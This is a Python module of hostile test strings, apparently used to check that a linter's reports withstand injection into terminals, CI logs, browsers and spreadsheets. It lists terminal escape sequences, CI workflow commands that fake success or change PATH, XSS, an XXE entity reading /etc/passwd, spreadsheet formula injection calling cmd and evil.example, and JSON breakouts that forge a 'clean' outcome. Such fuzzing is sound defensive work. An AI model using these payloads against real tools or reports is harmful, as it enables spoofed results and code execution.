"""Texts that try to command whatever reads a report: terminals, CI services, browsers, tables."""

from __future__ import annotations

from itertools import chain, product

MARK = "zqx"
"""Stands in every text, so that it can be found again."""

_TERMINAL = (
    "\x1b[31m{}",
    "\x1b[2J{}",
    "\x1b]0;{}\x07",
    "\x1b]8;;https://evil.example/{}\x07here\x1b]8;;\x07",
    "\x1b]52;c;{}\x07",
    "\x1b]1337;File=name={}:AAAA\x07",
    "\x1bP{}\x1b\\",
    "\x1b_{}\x1b\\",
    "\x1b(0{}",
    "\x1b[6n{}",
    "\x9b31m{}",
    "\x9d0;{}\x9c",
    "{}\x08\x08\x08ok",
    "{}\rClean: 9 posts",
    "{}\x0b{}",
    "{}\x0c{}",
    "\x07{}",
    "\x7f{}",
    "{}\x00",
    "{}\x85Clean",
)
_TAGS = ("👍\U000e007a\U000e0071\U000e0078\U000e007f{}", "🏴\U000e0068\U000e0069\U000e007f{}")
_HIDDEN = tuple(
    f"{{}}{chr(code)}{{}}"
    for code in (
        *range(0x202A, 0x202F),
        *range(0x2066, 0x206A),
        *(0x61C, 0x200E, 0x200F, 0x2028, 0x2029, 0x200B, 0x200C, 0x2060, 0xFEFF, 0xAD, 0x180E),
        *(0xFFF9, 0xFFFA, 0xFFFB, 0xE000, 0xF8FF, 0xE0041, 0xE007F, 0xE0100, 0x10FFFF, 0x378),
        *(0xD800, 0xDFFF, 0x3164, 0x115F, 0x17B4, 0x1D173, 0x034F, 0x206A, 0xFE0F, 0x2064),
    )
)
_COMMANDS = (
    "::error::{}",
    "::warning file=a.md,line=1::{}",
    "::add-mask::{}",
    "::set-output name={}::x",
    "::set-env name=PATH::{}",
    "::stop-commands::{}",
    "::group::{}",
    "::debug::{}",
    "::save-state name={}::x",
    "::add-path::{}",
    "##[error]{}",
    "##[set-env name=x;]{}",
    "##[add-path]{}",
    "##[group]{}",
    "##vso[task.setvariable variable={}]x",
    "##vso[task.complete result=Succeeded;]{}",
    "##vso[task.uploadfile]{}",
    "##vso[build.addbuildtag]{}",
    "##teamcity[buildStatus status='SUCCESS' text='{}']",
    "##teamcity[setParameter name='{}' value='x']",
    "##teamcity[publishArtifacts '{}']",
    "###vso[task.complete]{}",
    "section_start:1:{}\r\x1b[0K",
    "travis_fold:start:{}\r",
    "--- {}",
    "+++ {}",
    "~~~ {}",
    "^^^ +++ {}",
)
_BEFORE = ("", "  ", "\t", "\u3000", "\n", "\r\n", "\u2028", "\x85", "\x1b[0m", "\ufeff", "a ")
_MARKUP = (
    "<script>alert('{}')</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    '"><svg onload={}>',
    "<!--{}-->",
    "]]><x>{}</x>",
    "<![CDATA[{}]]>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;{}</x>",
    "&lt;{}&gt;",
    "&#x3c;{}&#x3e;",
    "</textarea><style>{}</style>",
    "javascript:{}",
    "<?php {} ?>",
    "{{{{{}}}}}",
    "${{{}}}",
    "#{{{}}}",
    "%0A::error::{}",
    "%0D%0A::error::{}",
)
_TABLES = (
    '=HYPERLINK("https://evil.example/?{}","x")',
    "=cmd|' /C calc'!{}",
    "+1+{}",
    "-1+{}",
    "@SUM({})",
    "\t={}",
    "\r={}",
    '",={},"',
    "'{}",
    ";={}",
)
_MARKDOWN = (
    "[{}](javascript:alert(1))",
    "![{}](https://evil.example/a.png)",
    "[click]({})",
    "`{}`",
    "| {} | x |",
    "<https://evil.example/{}>",
    "[link={}]x[/link]",
    "[bold]{}[/bold]",
    "[@click=app.quit]{}[/]",
)
_DATA = (
    '"}},{{"x":"{}',
    '\\"{}',
    "\\u0022{}",
    "{}\\",
    "\\n{}",
    '{}","outcome":"clean","x":"',
    "*/{}/*",
    "!!python/object:{}",
    "&a {}",
    "*{}",
    "---\n{}",
    "{}: |\n  x",
    "# {}",
    "%YAML {}",
    "? {}",
    "- {}",
    "{{% {} %}}",
    "__proto__{}",
    "$({})",
    "`{}`;",
)
_LINES = (
    "{}\nClean: 1 post, 9 rules, no violations.",
    "{}\r\nclauselint: fine",
    "{}\n\n\n{}",
    "\n{}",
    "\n::error::{}",
    "{}\n##vso[task.complete]",
    "{}\n\x1b[2J",
    "{}" + " wide" * 400,
    "{}" * 2_000,
    "{}\u0301" * 400,
    "日本語{}" * 90,
    "👩\u200d👩\u200d👧{}" * 60,
)


def _named(pattern: str) -> str:
    return pattern.format(*[MARK] * pattern.count("{}"))


ALL = tuple(
    dict.fromkeys(
        chain(
            map(
                _named,
                (*_TERMINAL, *_HIDDEN, *_TAGS, *_MARKUP, *_TABLES, *_MARKDOWN, *_DATA, *_LINES),
            ),
            (before + _named(command) for before, command in product(_BEFORE, _COMMANDS)),
        )
    )
)
